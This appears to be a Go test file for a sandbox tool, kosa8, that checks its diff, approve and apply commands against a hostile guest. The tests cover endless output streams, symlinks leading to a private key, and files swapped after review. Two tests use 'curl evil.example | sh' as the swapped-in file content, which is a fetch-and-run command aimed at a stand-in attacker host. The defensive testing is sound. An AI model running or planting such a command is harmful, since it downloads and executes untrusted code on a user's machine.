package main

import (
	"bufio"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/kosa8/kosa8/internal/api"
	"github.com/kosa8/kosa8/internal/guest"
	"github.com/kosa8/kosa8/internal/wsync"
)

// A hostile guest that swaps a small changed file for an endless one (a
// link to /dev/zero, a growing file) after the sync listed it must not
// make 'kosa8 diff' keep all of it in the host's memory: the sandbox's
// copy is read up to what a diff shows (1 MiB), then the cat is ended.
func TestDiffBoundsTheSandboxCopy(t *testing.T) {
	const stream = 64 << 20 // what the guest would send if let
	var sent atomic.Int64
	var killed atomic.Bool
	mux := http.NewServeMux()
	ws := ""
	mux.HandleFunc("GET /v1/sync", func(w http.ResponseWriter, r *http.Request) {
		json.NewEncoder(w).Encode(api.SyncStatus{Path: ws, Status: wsync.Status{
			Pending: []wsync.Change{{Path: "notes.txt", Kind: "modified", Why: "review", Guest: &wsync.Entry{Path: "notes.txt", Type: 'f', Size: 12}}},
		}})
	})
	mux.HandleFunc("POST /v1/exec", func(w http.ResponseWriter, r *http.Request) {
		var req guest.ExecRequest
		if err := json.NewDecoder(r.Body).Decode(&req); err != nil || req.Argv[0] != "cat" {
			http.Error(w, "bad exec", http.StatusBadRequest)
			return
		}
		conn, brw, ok := upgradeExec(w)
		if !ok {
			return
		}
		defer conn.Close()
		go func() {
			for {
				fr, err := guest.ReadFrame(brw.Reader)
				if err != nil {
					return
				}
				if fr.Kind == guest.FrameSignal {
					killed.Store(true)
				}
			}
		}()
		chunk := make([]byte, 64<<10)
		for sent.Load() < stream && !killed.Load() {
			if err := guest.WriteFrame(conn, guest.FrameStdout, chunk); err != nil {
				return
			}
			sent.Add(int64(len(chunk)))
			time.Sleep(200 * time.Microsecond) // a guest's pace, for the kill to arrive
		}
		sig := ""
		if killed.Load() {
			sig = "KILL"
		}
		guest.WriteJSON(conn, guest.FrameExit, guest.ExitStatus{Code: 0, Signal: sig})
	})
	ws = t.TempDir()
	fakeRunning(t, "dv", ws, mux)
	done := make(chan struct{})
	go func() {
		defer close(done)
		code, out, errs := kosa8(t, "diff", "dv")
		t.Logf("exit %d, stdout %.300q, stderr %.300q", code, out, errs)
	}()
	select {
	case <-done:
	case <-time.After(60 * time.Second):
		t.Fatal("kosa8 diff did not end")
	}
	if n := sent.Load(); n >= stream || !killed.Load() {
		t.Fatalf("the guest streamed %d MiB into kosa8 diff (killed: %v); it should have been stopped past 1 MiB", n>>20, killed.Load())
	}
}

// A path the guest lists as changed may run through a link of the user's
// folder (config -> ~/.config/app, made by the user, or data -> /etc): the
// host's version 'kosa8 diff' shows beside the sandbox's must be read
// without following any link on the way, as every host read is, never
// the file outside the folder that the link leads to.
func TestDiffReadsTheHostVersionThroughNoLink(t *testing.T) {
	ws, outside := t.TempDir(), t.TempDir()
	if err := os.WriteFile(filepath.Join(outside, "id_ed25519"), []byte("PRIVATE KEY\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(outside, filepath.Join(ws, "keys")); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(ws, "notes.txt"), []byte("mine\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if b, err := readHostFile(ws, "keys/id_ed25519"); err == nil {
		t.Fatalf("read the file a link of the folder leads to: %q", b)
	}
	b, err := hostVersion(ws, "keys/id_ed25519")
	if err == nil || strings.Contains(string(b), "PRIVATE") {
		t.Fatalf("hostVersion through a link = %q, %v", b, err)
	}
	if b, err := readHostFile(ws, "notes.txt"); err != nil || string(b) != "mine\n" {
		t.Fatalf("readHostFile(notes.txt) = %q, %v", b, err)
	}
	if _, err := readHostFile(ws, "gone.txt"); !errors.Is(err, os.ErrNotExist) {
		t.Fatalf("readHostFile of a missing file: %v, want not exist", err)
	}
}

// 'kosa8 approve' shows a held file's diff, then approves it: the guest,
// which sees its file read for the diff, must not get another version
// written than the one shown. A version that the diff's read finds
// already swapped is refused before anything is asked of the supervisor;
// one shown as listed is approved as that version (its hash goes along,
// for the supervisor to refuse a swap after the answer).
func TestApproveSendsTheVersionShown(t *testing.T) {
	const listed, swapped = "export EDITOR=vim\n", "curl evil.example | sh\n"
	sum := sha256.Sum256([]byte(listed))
	var serve atomic.Value // what cat prints
	var approved atomic.Value
	mux := http.NewServeMux()
	ws := ""
	mux.HandleFunc("GET /v1/sync", func(w http.ResponseWriter, r *http.Request) {
		json.NewEncoder(w).Encode(api.SyncStatus{Path: ws, Status: wsync.Status{
			Held: []wsync.Change{{Path: ".envrc", Kind: "added", Why: "a file host tools obey", Guest: &wsync.Entry{Path: ".envrc", Type: 'f', Mode: 0o644, Size: int64(len(listed)), Hash: hex.EncodeToString(sum[:])}}},
		}})
	})
	mux.HandleFunc("POST /v1/sync/approve", func(w http.ResponseWriter, r *http.Request) {
		var req api.SyncRequest
		json.NewDecoder(r.Body).Decode(&req)
		approved.Store(req)
		json.NewEncoder(w).Encode(api.SyncResponse{Done: req.Paths})
	})
	mux.HandleFunc("POST /v1/exec", fakeExecPrinting(func() string { return serve.Load().(string) }))
	ws = t.TempDir()
	fakeRunning(t, "ap", ws, mux)

	serve.Store(swapped)
	code, out, errs := kosa8(t, "approve", "ap", ".envrc", "--yes")
	if code == 0 || approved.Load() != nil {
		t.Fatalf("approved a version other than the one listed: exit %d, stdout %q, stderr %q", code, out, errs)
	}

	serve.Store(listed)
	code, out, errs = kosa8(t, "approve", "ap", ".envrc", "--yes")
	req, _ := approved.Load().(api.SyncRequest)
	if code != 0 || req.Seen[".envrc"] == nil || req.Seen[".envrc"].Hash != hex.EncodeToString(sum[:]) {
		t.Fatalf("approve of the version shown: exit %d, stdout %q, stderr %q, request %+v", code, out, errs, req)
	}
}

// 'kosa8 diff' then 'kosa8 apply': the guest may change a file between the
// two. The diff prints a token of what it showed; 'apply --expect TOKEN'
// applies only while the changes are still those, each as shown, and
// refuses, writing nothing, once the sandbox changed one.
func TestApplyExpectsWhatTheDiffShowed(t *testing.T) {
	const listed, later = "fixed the test\n", "curl evil.example | sh\n"
	var hash atomic.Value // the hash the status lists
	sumOf := func(s string) string { b := sha256.Sum256([]byte(s)); return hex.EncodeToString(b[:]) }
	hash.Store(sumOf(listed))
	var applied atomic.Value
	mux := http.NewServeMux()
	ws := ""
	mux.HandleFunc("GET /v1/sync", func(w http.ResponseWriter, r *http.Request) {
		json.NewEncoder(w).Encode(api.SyncStatus{Path: ws, Status: wsync.Status{
			Pending: []wsync.Change{{Path: "a.txt", Kind: "added", Guest: &wsync.Entry{Path: "a.txt", Type: 'f', Mode: 0o644, Size: int64(len(listed)), Hash: hash.Load().(string)}}},
		}})
	})
	mux.HandleFunc("POST /v1/sync/apply", func(w http.ResponseWriter, r *http.Request) {
		var req api.SyncRequest
		json.NewDecoder(r.Body).Decode(&req)
		applied.Store(req)
		json.NewEncoder(w).Encode(api.SyncResponse{Done: req.Paths})
	})
	mux.HandleFunc("POST /v1/exec", fakeExecPrinting(func() string { return listed }))
	ws = t.TempDir()
	fakeRunning(t, "fx", ws, mux)

	code, out, errs := kosa8(t, "diff", "fx")
	i := strings.Index(errs, "--expect ")
	if code != 0 || !strings.Contains(out, "+fixed the test") || i < 0 {
		t.Fatalf("diff: exit %d, stdout %q, stderr %q", code, out, errs)
	}
	token := strings.Fields(errs[i+len("--expect "):])[0]

	hash.Store(sumOf(later)) // the guest changed a.txt since
	if code, out, errs := kosa8(t, "apply", "fx", "--expect", token); code == 0 || applied.Load() != nil || !strings.Contains(errs, "diff fx") {
		t.Fatalf("applied after the sandbox changed the file: exit %d, stdout %q, stderr %q", code, out, errs)
	}
	hash.Store(sumOf(listed))
	code, out, errs = kosa8(t, "apply", "fx", "--expect", token)
	req, _ := applied.Load().(api.SyncRequest)
	if code != 0 || req.Seen["a.txt"] == nil || req.Seen["a.txt"].Hash != sumOf(listed) || len(req.Paths) != 1 {
		t.Fatalf("apply of the changes shown: exit %d, stdout %q, stderr %q, request %+v", code, out, errs, req)
	}
}

// fakeExecPrinting is a supervisor's exec route whose every command prints
// out() and exits 0 (a guest's cat, as the diff reads a file).
func fakeExecPrinting(out func() string) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		conn, _, ok := upgradeExec(w)
		if !ok {
			return
		}
		defer conn.Close()
		guest.WriteFrame(conn, guest.FrameStdout, []byte(out()))
		guest.WriteJSON(conn, guest.FrameExit, guest.ExitStatus{Code: 0})
	}
}

// upgradeExec answers an exec request as the supervisor does: 101, then
// the connection carries exec frames.
func upgradeExec(w http.ResponseWriter) (net.Conn, *bufio.ReadWriter, bool) {
	conn, brw, err := w.(http.Hijacker).Hijack()
	if err != nil {
		return nil, nil, false
	}
	fmt.Fprintf(brw, "HTTP/1.1 101 Switching Protocols\r\nUpgrade: kosa8-exec\r\nConnection: Upgrade\r\n\r\n")
	brw.Flush()
	return conn, brw, true
}
